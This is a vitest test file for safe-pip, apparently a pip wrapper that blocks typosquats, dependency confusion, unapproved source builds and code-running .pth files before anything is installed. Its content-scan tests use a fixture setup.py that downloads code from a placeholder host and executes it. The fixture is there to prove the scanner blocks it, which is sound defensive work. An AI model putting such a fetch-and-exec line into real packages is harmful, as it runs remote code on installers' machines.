/**
 * safe-pip's install flow on fake edges (test/helpers/fake-pip-deps.ts): the decision table ×
 * TTY × builds × sources, who runs pip, and what each command ends with — without starting Python.
 * The integration suites (test/integration/safe-pip.*) prove the same against the real pip.
 */
import { describe, expect, it } from 'vitest';
import { Blocked, UsageError } from '../../../src/core/errors.js';
import { pipInstallFlow } from '../../../src/flow/pip-install.js';
import { EXTRA, INDEX, fakePipDeps, pipArgv, wheelUrl, type FakePipSetup } from '../../helpers/fake-pip-deps.js';

const old = { ageDays: [900, 800, 700, 600, 500] };
// A squat is months old, not years: a look-alike established for over a year is only info (issue 11).
const projects = { requests: old, reqeusts: { ageDays: [120, 100, 90, 80] }, urllib3: old, fresh: { ageDays: [3, 2, 1] }, flaky: 'error' as const };

async function run(argv: string[], setup: Partial<FakePipSetup> & Pick<FakePipSetup, 'resolves'>) {
  const t = await fakePipDeps({ projects, ...setup });
  const { first } = pipArgv(argv, setup.env);
  const code = await pipInstallFlow(first, argv, t.deps).catch((error: unknown) => error);
  return { t, code };
}

const requests = { name: 'requests', version: '1.0.4' };

describe('pip install flow: decision table × TTY (fake edges)', () => {
  it('a clean package: pip\'s own install, held after its one resolve under the guard, let go with the sha256 of each wheel read', async () => {
    const { t, code } = await run(['install', 'requests'], { resolves: [requests] });
    expect(code).toBe(0);
    expect(t.resolves()).toEqual([['install', 'requests', '--report', '/work/report-0.json']]);
    expect(t.runs[0]!.hold).toBe(true);
    expect(t.fetches()).toEqual([]);
    expect(t.inspected).toEqual(['/work/wheels/requests-1.0.4-py3-none-any.whl']);
    expect(t.released).toEqual([{ requests: 'b'.repeat(64) }]);
    expect(t.installs()).toHaveLength(1);
    expect(t.asked).toEqual([]);
    expect(t.cleaned()).toBe(1);
  });

  it('when pip\'s downloads cannot be read (no kept copy), the held install is called off: fetched by hash, installed pinned from the private folder', async () => {
    const { t, code } = await run(['install', 'requests'], { resolves: [requests], keptMissing: true });
    expect(code).toBe(0);
    expect(t.calledOff()).toBe(1);
    expect(t.fetches()).toHaveLength(1);
    expect(t.installs()).toEqual([expect.arrayContaining(['--no-index', '--find-links', '/work/wheels', '--require-hashes'])]);
    expect(t.files.get('/work/final-requirements.txt')).toBe(`requests==1.0.4 --hash=sha256:${'b'.repeat(64)}\n`);
  });

  it.each([
    ['a typosquat', 'reqeusts', {}, 65, /reqeusts: block: .*"requests"/],
    ['a project the index does not have', 'nosuchthing', {}, 65, /not found/],
    ['an index that does not answer', 'flaky', {}, 68, /flaky: block/],
    ['a new project', 'fresh', {}, 66, /SAFE_PIP_YES=1/],
    ['a new project with SAFE_PIP_YES=1', 'fresh', { SAFE_PIP_YES: '1' }, 0, /fresh \(1\.0\.2\)\n {2}! warn/],
  ] as const)('no TTY: %s (%s): the exit code of the decision table; nothing installed unless accepted', async (_what, name, env, exit, says) => {
    const { t, code } = await run(['install', name], { resolves: [{ name, version: '1.0.2' }], env });
    expect(code).toBe(exit);
    expect(t.installs()).toHaveLength(exit === 0 ? 1 : 0);
    expect(t.text()).toMatch(says);
    if (exit !== 0) expect(t.text()).toContain('safe-pip: nothing was installed');
  });

  it('one resolution per run: the held install goes on only after the decision; on a stop it is called off with the session', async () => {
    const ok = await run(['install', 'requests'], { resolves: [requests] });
    expect(ok.t.resolves()).toHaveLength(1);
    expect([ok.t.released.length, ok.t.installs().length]).toEqual([1, 1]);
    const stopped = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }] });
    expect(stopped.t.resolves()).toHaveLength(1);
    expect([stopped.t.released.length, stopped.t.installs().length]).toEqual([0, 0]);
    const dry = await run(['install', '--dry-run', 'requests'], { resolves: [requests] });
    expect(dry.t.runs[0]!.hold).toBeFalsy();
    // Nothing beyond the pages pip read: a previous release's dependencies only with a takeover signal.
    expect(ok.t.releaseRequiresAsked()).toBe(0);
  });

  it('no TTY, a vetted build: the exact files are fetched (built) while the facts are checked, but nothing is installed on a stop', async () => {
    const t = await fakePipDeps({ projects, resolves: [{ name: 'reqeusts', version: '1.0.4' }], builds: [{ name: 'reqeusts', url: null, editable: false, kind: 'index', version: '1.0.4' }] });
    t.store.recordScriptDecision('pypi', { key: 'reqeusts', decision: 'allow' } as never);
    expect(await pipInstallFlow(pipArgv(['install', 'reqeusts']).first, ['install', 'reqeusts'], t.deps)).toBe(65);
    expect(t.fetches()).toHaveLength(1);
    expect(t.installs()).toEqual([]);
  });

  it('the allowlist accepts a trusted name (normalised as PEP 503)', async () => {
    const t = await fakePipDeps({ projects, resolves: [{ name: 'fresh', version: '1.0.2' }] });
    t.store.trust('pypi', 'fresh');
    const { first } = pipArgv(['install', 'Fresh']);
    expect(await pipInstallFlow(first, ['install', 'Fresh'], t.deps)).toBe(0);
  });

  it('TTY: the did-you-mean rewrites the command line and runs again', async () => {
    const { t, code } = await run(['install', 'reqeusts[socks]>=1'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }], interactive: true, answers: ['substitute', 'abort'] });
    expect(t.text()).toContain('safe-pip: running again as: pip install requests[socks]>=1');
    // The fake pip resolves the same set again: the second run asks again (and is aborted).
    expect(t.asked).toEqual(['reqeusts', 'reqeusts']);
    expect(code).toBe(65);
    expect(t.workspaces()).toBe(2);
    expect(t.cleaned()).toBe(2);
  });

  it('TTY: skip drops the requirement and runs again; skipping the only one installs nothing', async () => {
    const two = await run(['install', 'reqeusts', 'urllib3'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }], interactive: true, answers: ['skip', 'skip'] });
    expect(two.t.text()).toContain('safe-pip: running again as: pip install urllib3');
    const one = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }], interactive: true, answers: ['skip'] });
    expect(one.code).toBe(0);
    expect(one.t.text()).toContain('safe-pip: nothing left to install');
    expect(one.t.installs()).toEqual([]);
  });

  it('TTY: a flagged dependency cannot be skipped from the command line: nothing is installed', async () => {
    const { t, code } = await run(['install', 'requests'], { resolves: [requests, { name: 'reqeusts', version: '1.0.4', requested: false }], interactive: true, answers: ['skip'] });
    expect(code).toBe(65);
    expect(t.text()).toContain('pip installs a resolved set as a whole');
    expect(t.installs()).toEqual([]);
  });

  it('TTY: install anyway installs; "always trust" saves the normalised name', async () => {
    const anyway = await run(['install', 'fresh'], { resolves: [{ name: 'fresh', version: '1.0.2' }], interactive: true, answers: ['install'] });
    expect(anyway.code).toBe(0);
    expect(anyway.t.installs()).toHaveLength(1);
    const trust = await run(['install', 'fresh'], { resolves: [{ name: 'Fresh', version: '1.0.2' }], interactive: true, answers: ['install-and-trust'] });
    expect(trust.code).toBe(0);
    expect(trust.t.store.isTrusted('pypi', 'fresh')).toBe(true);
  });

  it('TTY: abort installs nothing (65)', async () => {
    const { t, code } = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }], interactive: true, answers: ['abort'] });
    expect(code).toBe(65);
    expect(t.installs()).toEqual([]);
    // With a prompt nothing is fetched before the answer.
    expect(t.fetches()).toEqual([]);
  });
});

describe('pip install flow: builds', () => {
  const srcdep = { name: 'srcdep', url: null, editable: false, kind: 'index', version: '1.0.4' };
  const built = { resolves: [{ name: 'srcdep', version: '1.0.4' }], builds: [srcdep], projects: { srcdep: old } };

  it('no TTY: a build that is not approved is withheld (67), with the command that approves it', async () => {
    const { t, code } = await run(['install', 'srcdep'], built);
    expect(code).toBe(67);
    expect(t.text()).toContain('safe-pip: to allow it: safe-pip safe approve srcdep==1.0.4');
    expect(t.resolves()).toHaveLength(1);
  });

  it('through the shim, the commands it advises are named as the user typed pip (pip3 safe approve, pip3 safe trust)', async () => {
    const withheld = await run(['install', 'srcdep'], { ...built, ownCommand: 'pip3' });
    expect(withheld.code).toBe(67);
    expect(withheld.t.text()).toContain('safe-pip: to allow it: pip3 safe approve srcdep==1.0.4');
    expect(withheld.t.text()).not.toContain('safe-pip safe');
    const blocked = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.3' }], ownCommand: 'pip3' });
    expect(blocked.code).toBe(65);
    expect(blocked.t.text()).toContain('run: pip3 safe trust reqeusts');
    expect(blocked.t.text()).not.toContain('safe-pip safe');
  });

  it('--safe-yes never approves a build', async () => {
    const { code } = await run(['install', 'srcdep', '--safe-yes'], built);
    expect(code).toBe(67);
  });

  it('pre-approved: resolved again with the build allowed (pip chooses the sdist itself, as without safe-pip)', async () => {
    const t = await fakePipDeps(built);
    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
    const { first } = pipArgv(['install', 'srcdep']);
    expect(await pipInstallFlow(first, ['install', 'srcdep'], t.deps)).toBe(0);
    expect(t.runs.filter((r) => r.pipArgs.includes('--report')).map((r) => r.allow)).toEqual([[], ['srcdep']]);
    expect(t.resolves()[1]).not.toContain('--only-binary=:all:');
    expect(t.fetches()[0]!.at(-1)).toBe('--only-binary=:all:');
    expect(t.text()).toContain('building srcdep==1.0.4 (pre-approved');
  });

  it('a denied name is never built, even when a version is approved', async () => {
    const t = await fakePipDeps(built);
    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
    t.store.recordScriptDecision('pypi', { key: 'srcdep', decision: 'deny' } as never);
    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(67);
  });

  it.each([[true, 0], [false, 67]] as const)('TTY: the build prompt answered %s → exit %s', async (yes, exit) => {
    const { t, code } = await run(['install', 'srcdep'], { ...built, interactive: true, confirms: [yes] });
    expect(code).toBe(exit);
    expect(t.confirmed).toEqual(['Build srcdep==1.0.4 now, running its code as you?']);
  });

  it('under the user\'s own --only-binary :all:, a project with only source releases fails as in pip (no build asked for)', async () => {
    const { t, code } = await run(['install', '--only-binary', ':all:', 'srconly'], { resolves: [], resolveFails: 1, side: { sourceOnly: { srconly: ['0.9', '1.0'] }, candidates: {} } });
    expect(code).toBe(1);
    expect(t.resolves()[0]).toContain('--only-binary=:all:');
    expect(t.text()).not.toContain('needs a build');
  });

  it('pip failing for its own reasons: its output and exit code, nothing installed (no "could not resolve" after a plain error)', async () => {
    const { t, code } = await run(['install', 'requests==99'], { resolves: [], resolveFails: 1 });
    expect(code).toBe(1);
    expect(t.text()).toBe('ERROR: pip says no\nsafe-pip: pip stopped (exit 1); nothing was installed\n');
  });

  it('pip failing with a look-alike among many requested names: only the look-alike is looked up on the index, and its did-you-mean is said', async () => {
    const many = Array.from({ length: 200 }, (_, i) => `pkg-${i}`);
    const { t, code } = await run(['install', ...many, 'reqeusts', 'requests'], { resolves: [], resolveFails: 1 });
    expect(code).toBe(65);
    expect(t.text()).toMatch(/reqeusts \(1\.0\.3\)\n  ✖ block "reqeusts.*"requests"/);
    expect(t.projectLookups).toEqual(['reqeusts']);
  });

  it('a dependency declaring `name @ URL` in its metadata is refused (65) unless that URL is approved', async () => {
    const declared = { name: 'evil', url: 'https://x.invalid/evil-1.0.tar.gz', editable: false, kind: 'archive', version: null, parent: 'nice', parentVersion: '1.0', declaredUrl: true };
    const { t, code } = await run(['install', 'nice'], { resolves: [{ name: 'nice', version: '1.0.4' }], builds: [declared], projects: { nice: old } });
    expect(code).toBe(65);
    expect(t.text()).toContain('safe-pip safe approve https://x.invalid/evil-1.0.tar.gz');
  });

  it('a wheel fetched from a URL another wheel declares is refused too', async () => {
    const url = 'https://x.invalid/dep-1.0-py3-none-any.whl';
    const { code, t } = await run(['install', 'nice'], { resolves: [{ name: 'nice', version: '1.0', requires: [`dep @ ${url}`] }, { name: 'dep', version: '1.0', url, isDirect: true, requested: false }] });
    expect(code).toBe(65);
    expect(t.text()).toContain('nice==1.0 declares the dependency "dep @');
  });

  it('-e with a VCS URL is a usage error before pip runs', async () => {
    const { t, code } = await run(['install', '-e', 'git+https://x.invalid/r.git#egg=r'], { resolves: [] });
    expect(code).toBeInstanceOf(UsageError);
    expect(t.runs).toEqual([]);
  });

  it('an approved editable folder is installed last, --no-deps, after the pinned set', async () => {
    const t = await fakePipDeps({ projects, resolves: [requests, { name: 'mine', version: '0.1', editable: true, url: 'file:///src/mine' }], builds: [{ name: 'mine', url: 'file:///src/mine', editable: true, kind: 'dir', version: '0.1' }] });
    t.store.recordScriptDecision('pypi', { key: 'file:///src/mine', decision: 'allow' } as never);
    expect(await pipInstallFlow(pipArgv(['install', '-e', '/src/mine']).first, ['install', '-e', '/src/mine'], t.deps)).toBe(0);
    const installs = t.installs();
    expect(installs).toHaveLength(2);
    expect(installs[1]!.slice(-3)).toEqual(['--no-deps', '--editable', '/src/mine']);
  });
});

describe('pip install flow: sources, inspection and commands', () => {
  it('two indexes offering the same name with a higher version elsewhere: dependency confusion blocks (65)', async () => {
    const cand = (index: string, version: string) => ({ version, url: wheelUrl('acme', version, index), filename: `acme-${version}-py3-none-any.whl`, hash: `sha256=${version}`, comesFrom: `${index}/acme/`, isWheel: true });
    const { t, code } = await run(['install', 'acme'], {
      projects: { acme: old },
      resolves: [{ name: 'acme', version: '1.0.4' }],
      side: { indexUrls: [INDEX, EXTRA], candidates: { acme: [cand(INDEX, '1.0.4'), cand(EXTRA, '99.0')] } },
    });
    expect(code).toBe(65);
    expect(t.text()).toContain('2 package sources are configured');
    expect(t.text()).toMatch(/acme: block: .*99\.0/);
  });

  it('find-links only: no index facts, but it exists (pip found it in a source the user configured): installed', async () => {
    const setup = { resolves: [{ name: 'local', version: '1.0' }], side: { indexUrls: [], findLinks: ['/wheels'], candidates: {} } };
    const plain = await run(['install', 'local'], setup);
    expect(plain.code).toBe(0);
    expect(plain.t.installs()).toHaveLength(1);
  });

  it('a wheel whose .pth runs code is caught when the wheels are read, before the install (65)', async () => {
    const { t, code } = await run(['install', 'requests'], {
      resolves: [requests],
      wheelFindings: { requests: [{ check: 'wheel-contents', severity: 'block', message: 'requests installs evil.pth, which runs code at every interpreter start' }] },
    });
    expect(code).toBe(65);
    expect(t.inspected).toHaveLength(1);
    expect(t.installs()).toEqual([]);
  });

  it('nothing to install: pip goes on and says what is already satisfied itself', async () => {
    const { t, code } = await run(['install', 'requests'], { resolves: [] });
    expect(code).toBe(0);
    expect(t.released).toEqual([{}]);
  });

  it('--dry-run: the wheels are read as for an install, then pip\'s summary line and the report where the user asked; nothing installed', async () => {
    const { t, code } = await run(['install', '--dry-run', '--report', 'out.json', 'requests'], { resolves: [requests] });
    expect(code).toBe(0);
    expect(t.out()).toBe('Would install requests-1.0.4\n');
    expect(t.reports.map(([to]) => to)).toEqual(['/project/out.json']);
    expect(JSON.parse(t.reports[0]![1]).version).toBe('1');
    expect(t.inspected).toHaveLength(1);
    expect(t.installs()).toEqual([]);
  });

  it('download: vetted, then the user\'s own command runs under the guard, in the terminal', async () => {
    const { t, code } = await run(['download', '-d', 'out', 'requests'], { resolves: [requests] });
    expect(code).toBe(0);
    const last = t.runs.at(-1)!;
    expect(last.pipArgs[0]).toBe('download');
    expect(last.pipArgs).toContain('--dest=out');
    expect(last.pipArgs).not.toContain('--dry-run');
    expect(last.stdio).toBe('inherit');
    expect(t.resolves()[0]).toContain('--ignore-installed');
  });

  it('pip lock on a pip older than 25.1 goes to the real pip untouched', async () => {
    const { t, code } = await run(['lock', 'requests'], { resolves: [requests], pipVersion: [24, 0] });
    expect(code).toBe(0);
    expect(t.passthroughs).toEqual([['lock', 'requests']]);
    expect(t.runs).toEqual([]);
  });

  it('the cooldown says which newer version it skipped, even when all is well', async () => {
    const { t, code } = await run(['install', 'requests'], {
      resolves: [requests],
      side: { cooldown: { skipped: { requests: { '1.0.5': new Date(Date.parse('2026-11-25T07:00:00Z')).toISOString() } } } },
    });
    expect(code).toBe(0);
    expect(t.text()).toBe('safe-pip: requests==1.0.5 is 5 hours old; installing 1.0.4\n');
  });
});

describe('pip install flow: who runs pip', () => {
  it('as root, pip runs as the owner of the venv, with their HOME and a private pip config', async () => {
    const { t, code } = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 1234 });
    expect(code).toBe(0);
    expect(t.runs[0]!.env).toMatchObject({ HOME: '/nonexistent', USER: 'u1234', PIP_CONFIG_FILE: '/work/pip.conf', PIP_CACHE_DIR: '/cache/pip-1234', TMPDIR: '/work/tmp' });
  });

  it('as root, a root-owned venv is refused before pip runs', async () => {
    const { t, code } = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 0 });
    expect(code).toBeInstanceOf(Blocked);
    expect(t.workspaces()).toBe(0);
  });

  it('every refusal names the one thing that works (issue 10): a root-owned venv, a Python its owner cannot run, the system Python, --user', async () => {
    const rootOwned = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 0 });
    expect((rootOwned.code as Blocked).message).toBe('safe-pip: the virtual environment /venv is owned by root (pip never runs as root under safe-pip): give it to a user: chown -R nobody: /venv');
    const privatePython = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 0, pythonRunnable: false, env: { SUDO_USER: 'alice' } });
    expect((privatePython.code as Blocked).message).toContain('its Python (/venv/bin/python) cannot be run by other users, so make it again with one that can: rm -rf /venv && /usr/bin/python3 -m venv /venv && chown -R alice: /venv');
    const ownerCannot = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 1234, pythonRunnable: false });
    expect((ownerCannot.code as Blocked).message).toMatch(/pip would run as u1234 .* who cannot run \/venv\/bin\/python .*: make the environment again with a Python every user can run: rm -rf \/venv && \/usr\/bin\/python3 -m venv \/venv && chown -R u1234: \/venv$/);
    expect(ownerCannot.t.workspaces()).toBe(0);
    // The venv sits in a folder closed to other users (mktemp -d makes 0700 ones): making it again would not help.
    const closedFolder = { path: '/tmp/tmp.x', mode: 0o40700 };
    const ownerShutOut = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 1234, pythonRunnable: false, closedFolder });
    expect((ownerShutOut.code as Blocked).message).toMatch(/who cannot run \/venv\/bin\/python .*: the folder \/tmp\/tmp\.x \(mode 700\) on the way to it is closed to other users: make it enterable \(chmod o\+x \/tmp\/tmp\.x\) or make the environment where u1234 can reach it$/);
    const rootShutOut = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 0, pythonRunnable: false, closedFolder });
    expect((rootShutOut.code as Blocked).message).toContain(': chmod o+x /tmp/tmp.x && chown -R nobody: /venv');
    // Paths are pasted into a shell: one with a space (or a `$(…)`) is one quoted word (it was bare: `rm -rf /srv/my venv`).
    const spaced = await run(['install', 'requests'], { resolves: [requests], root: true, ownerUid: 0, pythonRunnable: false, closedFolder: { path: '/tmp/my $(dir)', mode: 0o40700 } });
    expect((spaced.code as Blocked).message).toContain(`: chmod o+x '/tmp/my $(dir)' && chown -R nobody: /venv`);
    const user = await run(['install', '--user', 'requests'], { resolves: [requests], root: true });
    expect((user.code as Blocked).message).toContain('/usr/bin/python3 -m venv .venv && chown -R nobody: .venv && . .venv/bin/activate');
    for (const r of [rootOwned, privatePython, ownerCannot, ownerShutOut, rootShutOut, user]) {
      expect((r.code as Blocked).message).not.toContain('runAsUser');
      expect((r.code as Blocked).message.split('\n')).toHaveLength(1);
    }
  });

  it('pip\'s own configuration moving the destination is could-not-verify', async () => {
    const { code } = await run(['install', 'requests'], { resolves: [requests], side: { options: { target_dir: '/elsewhere' } } });
    expect((code as Blocked).exitCode).toBe(68);
  });
});

describe('pip install flow: the same result as pip (issue 10)', () => {
  it('the user\'s format choices reach pip: --no-binary (also abbreviated) is kept, nothing of ours is added', async () => {
    for (const argv of [['install', '--no-binary', ':all:', 'six'], ['install', '--no-bin', ':all:', 'six'], ['install', '--no-binary', 'six', 'six']]) {
      const { t } = await run(argv, { resolves: [], resolveFails: 1 });
      const resolve = t.resolves()[0]!;
      expect(resolve).toContain(argv[2] === 'six' ? '--no-binary=six' : '--no-binary=:all:');
      expect(resolve.filter((a) => a.startsWith('--only-binary'))).toEqual([]);
    }
    const { t } = await run(['download', '--no-binary', ':all:', '-d', 'out', 'requests'], { resolves: [requests] });
    expect(t.runs.at(-1)!.pipArgs).toEqual(['download', '--no-binary=:all:', '--dest=out', 'requests']);
  });

  it('a dry run predicts the install: a wheel the install would block blocks the dry run too (65, no "Would install")', async () => {
    const { t, code } = await run(['install', '--dry-run', 'requests'], {
      resolves: [requests],
      wheelFindings: { requests: [{ check: 'wheel-contents', severity: 'block', message: 'requests installs evil.pth, a .pth file that runs code' }] },
    });
    expect(code).toBe(65);
    expect(t.out()).toBe('');
    expect(t.installs()).toEqual([]);
  });

  it('--report - prints pip\'s JSON report on stdout; -q leaves out pip\'s summary line', async () => {
    const loud = await run(['install', '--dry-run', '--report', '-', 'requests'], { resolves: [requests] });
    const [json, summary] = loud.t.out().split(/\n(?=Would install)/);
    expect(JSON.parse(json!).install[0].metadata).toMatchObject({ name: 'requests', version: '1.0.4' });
    expect(summary).toBe('Would install requests-1.0.4\n');
    const quiet = await run(['install', '-q', '--dry-run', '--report', '-', 'requests'], { resolves: [requests] });
    expect(JSON.parse(quiet.t.out()).version).toBe('1');
    expect(loud.t.reports).toEqual([]);
  });

  it('-q (or PIP_QUIET) quiets safe-pip\'s own informational lines; refusals are still said', async () => {
    const built = { resolves: [{ name: 'srcdep', version: '1.0.4' }], builds: [{ name: 'srcdep', url: null, editable: false, kind: 'index', version: '1.0.4' }], projects: { srcdep: old } };
    for (const [argv, env, says] of [
      [['install', 'srcdep'], {}, true],
      [['install', '-q', 'srcdep'], {}, false],
      [['install', 'srcdep'], { PIP_QUIET: '1' }, false],
    ] as const) {
      const t = await fakePipDeps({ ...built, env });
      t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
      expect(await pipInstallFlow(pipArgv([...argv], env).first, [...argv], t.deps)).toBe(0);
      expect(t.text().includes('building srcdep==1.0.4 (pre-approved'), argv.join(' ')).toBe(says);
    }
    const yes = await run(['install', '-q', 'fresh', '--safe-yes'], { resolves: [{ name: 'fresh', version: '1.0.2' }] });
    expect(yes.code).toBe(0);
    expect(yes.t.text()).toBe('');
    const withheld = await run(['install', '-q', 'srcdep'], built);
    expect(withheld.code).toBe(67);
    expect(withheld.t.text()).toContain('safe-pip safe approve srcdep==1.0.4');
  });

  it('a requested name pip cannot resolve is checked: a typo blocks with its did-you-mean (65), said before pip\'s error', async () => {
    const { t, code } = await run(['install', 'reqeusts'], { resolves: [], resolveFails: 1, projects: { reqeusts: 'not-found' }, side: { requested: ['reqeusts'] } });
    expect(code).toBe(65);
    const text = t.text();
    // One finding for one fact (the typo, with its did-you-mean), said once; the stop line says what to do.
    expect(text.match(/does not exist: a free name one typo from the popular package "requests"/g)).toHaveLength(1);
    expect(text).not.toContain('was not found');
    expect(text).toContain('safe-pip: reqeusts: not on the package index; did you mean "requests"? run: safe-pip install requests');
    expect(text).not.toContain('safe trust');
    expect(text.indexOf('did you mean "requests"')).toBeLessThan(text.indexOf('ERROR: pip says no'));
    // A name that is only missing stays pip's own error and exit code.
    const missing = await run(['install', 'nosuchthing'], { resolves: [], resolveFails: 1, side: { requested: ['nosuchthing'] } });
    expect(missing.code).toBe(1);
  });

  it('at a terminal, an unresolvable typo offers the replacement (not "install anyway": nothing to install) and runs again with it', async () => {
    const { t } = await run(['install', 'reqeusts'], { resolves: [], resolveFails: 1, projects: { reqeusts: 'not-found' }, side: { requested: ['reqeusts'] }, interactive: true, answers: ['substitute', 'abort'] });
    expect(t.text()).toContain('safe-pip: running again as: pip install requests');
    expect(t.questions[0]).toMatchObject({ installable: false });
    expect(t.text()).not.toContain('was not found');
  });

  it('"always trust" at the prompt saves the normalised project name, not the line shown for a dependency', async () => {
    const { t, code } = await run(['install', 'requests'], {
      resolves: [requests, { name: 'Fresh_Pkg', version: '1.0.2', requested: false }],
      projects: { ...projects, Fresh_Pkg: { ageDays: [3, 2, 1] } },
      side: { edges: { requests: ['fresh-pkg'], 'fresh-pkg': [] } },
      interactive: true, answers: ['install-and-trust'],
    });
    expect(code).toBe(0);
    expect(t.asked).toEqual(['Fresh_Pkg==1.0.2 (via requests > Fresh_Pkg)']);
    expect(t.store.isTrusted('pypi', 'fresh-pkg')).toBe(true);
    expect(t.store.isTrusted('pypi', 'Fresh_Pkg==1.0.2 (via requests > Fresh_Pkg)')).toBe(false);
  });

  it('a flagged dependency is asked about with only what can be done (accept or abort: no skip, no replacement)', async () => {
    const { t } = await run(['install', 'requests'], { resolves: [requests, { name: 'reqeusts', version: '1.0.4', requested: false }], interactive: true, answers: ['abort'] });
    expect(t.questions).toHaveLength(1);
    expect(t.questions[0]).toMatchObject({ transitive: true });
    const direct = await run(['install', 'reqeusts'], { resolves: [{ name: 'reqeusts', version: '1.0.4' }], interactive: true, answers: ['abort'] });
    expect(direct.t.questions).toHaveLength(1);
    expect(direct.t.questions[0]?.transitive).toBeFalsy();
  });
});

describe('pip install flow: the content of a build is read before it runs', () => {
  const evil = { 'setup.py': 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("http://x.invalid/p").read())\nsetup(name="srcdep")\n' };
  const meh = { 'setup.py': 'from setuptools import setup\nimport subprocess\nsubprocess.call(["make"])\nsetup(name="srcdep")\n' };
  const refusal = (files: Record<string, string>, digest = 'd1') => ({ name: 'srcdep', url: null, editable: false, kind: 'index', version: '1.0.4', files, digest });
  const setupFor = (files: Record<string, string>, extra: Partial<FakePipSetup> = {}) => ({ resolves: [{ name: 'srcdep', version: '1.0.4' }], builds: [refusal(files)], projects: { srcdep: old }, ...extra });

  it('a high-confidence finding blocks a pre-approved build (65), with file and line and the approval of exactly this content', async () => {
    const t = await fakePipDeps(setupFor(evil));
    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(65);
    expect(t.text()).toContain('blocked: the build of srcdep==1.0.4 (pre-approved) would run code the content scan flags');
    expect(t.text()).toMatch(/ {2}! setup\.py:3: .*\[download-execute\]/);
    expect(t.text()).toContain('safe-pip safe approve srcdep==1.0.4 --content d1');
    expect(t.resolves()).toHaveLength(1);
  });

  it('an approval of exactly this content lets it build; the guard is told to build only that content', async () => {
    const t = await fakePipDeps(setupFor(evil));
    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow', scriptsDigest: 'd1' } as never);
    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(0);
    expect(t.runs.filter((r) => r.pipArgs.includes('--report')).at(-1)!.digests).toEqual({ srcdep: 'd1' });
  });

  it('an approval of other content counts as none: withheld without a terminal (67)', async () => {
    const t = await fakePipDeps(setupFor(meh));
    t.store.recordScriptDecision('pypi', { key: 'srcdep', decision: 'allow', scriptsDigest: 'older' } as never);
    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(67);
    expect(t.text()).toContain('its source is not the content you approved');
  });

  it('medium findings are shown at the build prompt with file and line', async () => {
    const { t, code } = await run(['install', 'srcdep'], { ...setupFor(meh), interactive: true, confirms: [true] });
    expect(code).toBe(0);
    const text = t.text();
    expect(text).toMatch(/ {2}! setup\.py:3: runs a command when setup\.py is imported \[setup-py-commands\]/);
    expect(text.indexOf('setup.py:3')).toBeLessThan(text.length);
    expect(t.confirmed).toHaveLength(1);
  });

  it('content that changes between two reads in one run is blocked (65)', async () => {
    const t = await fakePipDeps(setupFor(meh, { rebuildDigest: 'd2' }));
    t.store.recordScriptDecision('pypi', { key: 'srcdep@1.0.4', decision: 'allow' } as never);
    expect(await pipInstallFlow(pipArgv(['install', 'srcdep']).first, ['install', 'srcdep'], t.deps)).toBe(65);
    expect(t.text()).toContain('changed after it was read and vetted in this run');
  });
});
